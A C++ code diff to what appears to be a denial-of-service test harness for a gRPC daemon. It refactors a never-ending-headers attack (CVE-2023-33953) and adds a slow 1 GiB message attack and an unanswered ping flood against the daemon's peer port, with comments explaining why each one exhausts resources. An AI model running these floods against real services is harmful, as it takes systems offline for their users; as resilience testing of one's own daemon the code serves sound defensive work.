@@ -39,6 +39,7 @@ constexpr char kStatus[] = "/gradsync.v1.Introspection/GetStatus";
 constexpr char kHealth[] = "/grpc.health.v1.Health/Check";
 constexpr char kReflection[] = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo";
 constexpr char kUnknown[] = "/no.Service/Method";
+constexpr char kAttach[] = "/gradsync.v1.Peer/Attach";
 
 void RaiseDescriptorLimit() {
   rlimit limit{};
@@ -255,17 +256,44 @@ void Nothings(const Connect& connect) {
   OnConnections(2, connect, [](RawHttp2* connection) { connection->SendNothings(); });
 }
 
-// Sends a call's headers, which never end (CVE-2023-33953).
-void Headers(const Connect& connect, const std::string& method) {
-  OnThreads(4, [&](int, const Begun& begun) {
+// Begins something on so many connections and goes on with it without end. Connects again when the
+// daemon has ended a connection.
+void WithoutEnd(int connections, const Connect& connect,
+                const std::function<bool(RawHttp2*)>& begin,
+                const std::function<bool(RawHttp2*)>& go_on) {
+  OnThreads(connections, [&](int, const Begun& begun) {
     for (;;) {
       RawHttp2 connection = connect();
-      bool goes_on = connection.connected() && connection.BeginHeaders(method);
-      for (; goes_on; begun()) goes_on = connection.ContinueHeaders();
+      bool goes_on = connection.connected() && begin(&connection);
+      for (; goes_on; begun()) goes_on = go_on(&connection);
       begun();  // it may have been refused
       std::this_thread::sleep_for(kPace);
     }
   });
+}
+
+// Sends a call's headers, which never end (CVE-2023-33953).
+void Headers(const Connect& connect, const std::string& method) {
+  WithoutEnd(
+      4, connect, [&](RawHttp2* connection) { return connection->BeginHeaders(method); },
+      [](RawHttp2* connection) { return connection->ContinueHeaders(); });
+}
+
+// Sends a message of 1 GiB slowly: gRPC holds a message whole before it compares its length with
+// the limit.
+void EndlessMessages(const Connect& connect, const std::string& method) {
+  constexpr std::chrono::milliseconds kBetweenPieces(4);
+  WithoutEnd(
+      32, connect, [&](RawHttp2* connection) { return connection->BeginMessage(method, 1u << 30); },
+      [&](RawHttp2* connection) {
+        std::this_thread::sleep_for(kBetweenPieces);  // the pace of the attack
+        return connection->ContinueMessage();
+      });
+}
+
+// Sends pings, and reads no answer. gRPC keeps up to 10,000 answers of each connection.
+void Pings(const Connect& connect) {
+  OnConnections(32, connect, [](RawHttp2* connection) { connection->SendPings(1000); });
 }
 
 // Opens calls with long headers, and keeps them open.
@@ -342,8 +370,7 @@ Attacks ConnectionAttacks() {
       {"reset_sessions", {[](const Target& t) { Reset(ToSocket(t), kSession); }}},
       {"reset_questions", {[](const Target& t) { Reset(ToSocket(t), kHealth); }}},
       {"reset_unknown", {[](const Target& t) { Reset(ToSocket(t), kUnknown); }}},
-      {"peer_reset_attach",
-       {[](const Target& t) { Reset(ToPeer(t), "/gradsync.v1.Peer/Attach"); }, kOnPeerPort}},
+      {"peer_reset_attach", {[](const Target& t) { Reset(ToPeer(t), kAttach); }, kOnPeerPort}},
       {"peer_reset_unknown", {[](const Target& t) { Reset(ToPeer(t), kUnknown); }, kOnPeerPort}},
       {"headers", {[](const Target& t) { Headers(ToSocket(t), kSession); }}},
       {"long_headers", {[](const Target& t) { LongHeaders(ToSocket(t), kSession); }}},
@@ -351,6 +378,9 @@ Attacks ConnectionAttacks() {
       {"reset_and_close", {[](const Target& t) { ResetAndClose(t, kSession); }}},
       {"nothings", {[](const Target& t) { Nothings(ToSocket(t)); }}},
       {"peer_nothings", {[](const Target& t) { Nothings(ToPeer(t)); }, kOnPeerPort}},
+      {"peer_pings", {[](const Target& t) { Pings(ToPeer(t)); }, kOnPeerPort}},
+      {"peer_endless_messages",
+       {[](const Target& t) { EndlessMessages(ToPeer(t), kAttach); }, kOnPeerPort}},
       {"bulk", {Bulk}},
       {"stall_and_close", {StallAndClose}},
   };
